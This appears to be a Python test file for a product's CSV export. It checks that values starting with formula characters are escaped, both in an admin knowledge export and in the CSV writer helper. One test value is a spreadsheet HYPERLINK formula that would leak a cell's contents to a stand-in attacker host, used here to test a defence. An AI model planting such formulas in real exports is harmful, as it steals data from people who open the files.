"""Every CSV the product writes escapes spreadsheet formulas (issue 16 item 10): the admin's model exports as well
as the analytics CSV go through chatpad.csvfile."""

from __future__ import annotations

import csv
import io

from chatpad import csvfile
from tests.conftest import login

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_knowledge_item_titled_like_a_formula_comes_out_escaped_from_the_admin_export(client, make):
    biz = make.business("Ours")
    make.knowledge(biz.agent, biz.location, title=EVIL)
    login(client, biz.user.email)

    response = client.get("/admin/knowledge/export/csv/")
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True))) for cell in row]
    assert "'" + EVIL in cells
    assert EVIL not in cells


def test_every_formula_start_is_escaped_and_plain_values_are_left_alone():
    buffer = io.StringIO()
    rows = [["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "plain", 3, -4, None]]
    csvfile.writer(buffer).writerows(rows)
    (row,) = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert row == ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "plain", "3", "-4", ""]
